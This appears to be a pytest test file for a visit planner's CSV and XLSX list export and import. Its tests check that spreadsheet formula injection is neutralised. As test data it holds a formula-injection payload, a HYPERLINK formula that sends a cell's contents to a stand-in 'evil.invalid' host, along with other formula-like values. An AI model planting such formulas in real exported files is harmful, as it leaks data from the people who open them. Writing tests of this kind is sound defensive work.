"""Lists out (participants, sites, itinerary as CSV and XLSX) and back in through the importer."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, time
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from planner.cli import main as cli_main
from planner.interchange.visit_format import import_visit
from planner.persistence.db import Database
from planner.persistence.tables import Participant, Site
from planner.persistence.uow import UnitOfWork
from planner.queries.itinerary import visit_items
from planner.services.data_exchange import export_list, import_participants, import_sites
from tests.support.synthetic import synthetic_visit


def _visit(db: Database) -> int:
    with UnitOfWork(db.sessions) as uow:
        visit_id = import_visit(uow, synthetic_visit(sites=5, participants=6, items=10))
        person = uow.session.scalars(select(Participant).where(Participant.visit_id == visit_id)).first()
        assert person is not None
        person.email, person.phone = "guest@example.invalid", "+7 700 111 2233"
        uow.commit()
    return visit_id


def _read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    # as a spreadsheet program reads it: line breaks inside quoted cells belong to the cell
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def _read_xlsx(path: Path) -> list[tuple[object, ...]]:
    workbook = openpyxl.load_workbook(path, read_only=True)
    try:
        return list(workbook.worksheets[0].iter_rows(values_only=True))
    finally:
        workbook.close()


def test_itinerary_xlsx_has_real_dates_and_times_in_the_host_zone(db: Database, tmp_path: Path) -> None:
    visit_id = _visit(db)
    path = tmp_path / "itinerary.xlsx"
    assert export_list(UnitOfWork(db.sessions), "itinerary", visit_id, path) == 10
    rows = _read_xlsx(path)
    with UnitOfWork(db.sessions) as uow:
        items = visit_items(uow, visit_id)
    assert rows[0][:4] == ("date", "start", "end", "title")
    first = rows[1]
    # openpyxl reads a date cell back as a datetime at midnight and a time cell as a time
    assert isinstance(first[0], datetime) and first[0].date() == date(2023, 5, 11)
    assert first[1] == time(6, 0) and first[3] == items[0].title
    assert [r[3] for r in rows[1:]] == [i.title for i in items]


def test_participants_leave_out_private_fields_unless_asked(db: Database, tmp_path: Path) -> None:
    visit_id = _visit(db)
    plain, private = tmp_path / "people.csv", tmp_path / "people-private.csv"
    export_list(UnitOfWork(db.sessions), "participants", visit_id, plain)
    export_list(UnitOfWork(db.sessions), "participants", visit_id, private, include_private=True)
    plain_text, private_text = plain.read_text("utf-8-sig"), private.read_text("utf-8-sig")
    assert "guest@example.invalid" not in plain_text and "+7 700 111 2233" not in plain_text
    assert "email" not in _read_csv(plain)[0]
    assert "guest@example.invalid" in private_text and "+7 700 111 2233" in private_text
    rows = _read_csv(plain)
    side = rows[0].index("side")
    assert [r[side] for r in rows[1:]] == sorted(r[side] for r in rows[1:])  # guests, then hosts


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exported_sites_and_people_import_back_as_matches(db: Database, tmp_path: Path, suffix: str) -> None:
    visit_id = _visit(db)
    sites, people = tmp_path / f"sites{suffix}", tmp_path / f"people{suffix}"
    assert export_list(UnitOfWork(db.sessions), "sites", visit_id, sites) == 5
    export_list(UnitOfWork(db.sessions), "participants", visit_id, people, include_private=True)
    report = import_sites(UnitOfWork(db.sessions), sites)
    assert (report.imported, report.matched, report.rejected) == (0, 5, 0)
    report = import_participants(UnitOfWork(db.sessions), visit_id, people)
    assert (report.imported, report.matched, report.rejected) == (0, 6, 0)


def test_cli_export_list_and_unknown_extension(sqlite_db: Database, tmp_path: Path) -> None:
    visit_id = _visit(sqlite_db)
    base = ["--db", str(sqlite_db.path), "export-list"]
    assert cli_main([*base, "sites", str(visit_id), "-o", str(tmp_path / "s.xlsx")]) == 0
    assert len(_read_xlsx(tmp_path / "s.xlsx")) == 6
    assert cli_main([*base, "sites", str(visit_id), "-o", str(tmp_path / "s.pdf")]) == 2


# ------------------------------------------------------------------------------------ formula injection

FORMULA_NAME = '=HYPERLINK("http://evil.invalid/?"&A2,"Click")'
HOSTILE = {
    "full_name": FORMULA_NAME,
    "title": "+7 minister",
    "organisation": "-1 department",
    "role": "@SUM(A1)",
}
SITE_NAME = "=1+2 refinery"


def _hostile_visit(db: Database) -> int:
    """A visit whose first participant and first site are named like formulas, with a negative latitude."""
    visit_id = _visit(db)
    with UnitOfWork(db.sessions) as uow:
        person = uow.session.scalars(
            select(Participant).where(Participant.visit_id == visit_id).order_by(Participant.id)
        ).first()
        assert person is not None
        for field, value in HOSTILE.items():
            setattr(person, field, value)
        person.notes = "\tleading tab\rand a return"
        site = uow.session.get(Site, visit_items(uow, visit_id)[0].site_id)
        assert site is not None
        site.name, site.latitude = SITE_NAME, -33.5
        uow.commit()
    return visit_id


def _unescaped(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_cells_that_look_like_formulas_are_escaped_and_numbers_stay_numbers(
    db: Database, tmp_path: Path
) -> None:
    visit_id = _hostile_visit(db)
    people, sites = tmp_path / "people.csv", tmp_path / "sites.csv"
    export_list(UnitOfWork(db.sessions), "participants", visit_id, people, include_private=True)
    export_list(UnitOfWork(db.sessions), "sites", visit_id, sites)
    person_cells = [c for row in _read_csv(people) for c in row]
    for value in HOSTILE.values():
        assert "'" + value in person_cells
    assert "'\tleading tab\rand a return" in person_cells
    site_rows = _read_csv(sites)
    site_cells = [c for row in site_rows for c in row]
    assert "'" + SITE_NAME in site_cells
    # a negative number is a number, not a formula: written as Excel reads it, unescaped
    latitude = site_rows[0].index("latitude")
    assert "-33,5" in [r[latitude] for r in site_rows[1:]]
    numbers = re.compile(r"-\d+(,\d+)?")
    for cell in person_cells + site_cells:
        assert not _unescaped(cell) or numbers.fullmatch(cell), cell


def test_xlsx_cells_are_typed_text_never_formulas(db: Database, tmp_path: Path) -> None:
    visit_id = _hostile_visit(db)
    people, sites = tmp_path / "people.xlsx", tmp_path / "sites.xlsx"
    export_list(UnitOfWork(db.sessions), "participants", visit_id, people, include_private=True)
    export_list(UnitOfWork(db.sessions), "sites", visit_id, sites)
    for path in (people, sites):
        workbook = openpyxl.load_workbook(path)  # not read-only: data_type tells formula from text
        try:
            cells = [c for row in workbook.worksheets[0].iter_rows() for c in row]
        finally:
            workbook.close()
        assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
        for cell in cells:
            if isinstance(cell.value, str) and _unescaped(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    values = [v for row in _read_xlsx(people) for v in row]
    assert FORMULA_NAME in values and "@SUM(A1)" in values
    assert -33.5 in [v for row in _read_xlsx(sites) for v in row]  # still a number


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exported_formula_like_text_imports_back_unchanged(db: Database, tmp_path: Path, suffix: str) -> None:
    visit_id = _hostile_visit(db)
    people, sites = tmp_path / f"people{suffix}", tmp_path / f"sites{suffix}"
    export_list(UnitOfWork(db.sessions), "participants", visit_id, people, include_private=True)
    export_list(UnitOfWork(db.sessions), "sites", visit_id, sites)
    report = import_sites(UnitOfWork(db.sessions), sites)
    assert (report.imported, report.matched, report.rejected) == (0, 5, 0), report.problems
    report = import_participants(UnitOfWork(db.sessions), visit_id, people)
    assert (report.imported, report.matched, report.rejected) == (0, 6, 0), report.problems
    with UnitOfWork(db.sessions) as uow:
        names = set(uow.session.scalars(select(Participant.full_name)))
        person = uow.session.scalars(select(Participant).where(Participant.full_name == FORMULA_NAME)).one()
        assert {f: getattr(person, f) for f in HOSTILE} == HOSTILE
        assert SITE_NAME in set(uow.session.scalars(select(Site.name)))
        assert "+7 700 111 2233" in set(uow.session.scalars(select(Participant.phone)))
    assert FORMULA_NAME in names
